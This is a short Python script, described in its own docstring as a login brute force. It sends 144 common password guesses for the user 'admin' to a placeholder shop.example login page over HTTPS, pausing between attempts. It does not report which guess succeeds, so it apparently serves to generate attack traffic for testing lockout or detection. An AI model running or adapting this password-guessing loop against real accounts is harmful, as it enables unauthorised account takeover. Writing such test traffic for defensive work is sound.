"""A login brute force: one name, many passwords, a new connection for each."""
import ssl
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

WORDS = ["password", "letmein", "qwerty", "dragon", "monkey", "shop", "summer", "welcome", "admin", "iloveyou", "sunshine", "master"]
ENDINGS = ["", "1", "12", "123", "1234", "2024", "2025", "2026", "!", "1!", "#1", "_"]


def main(ca_file: str) -> None:
    context = ssl.create_default_context(cafile=ca_file)
    for password in (word + ending for word in WORDS for ending in ENDINGS):
        body = urllib.parse.urlencode({"user": "admin", "password": password}).encode()
        try:
            urllib.request.urlopen("https://shop.example/login", data=body, context=context, timeout=10).close()
        except urllib.error.HTTPError as refused:
            if refused.code != 401:
                raise
        time.sleep(0.4)


main(sys.argv[1])
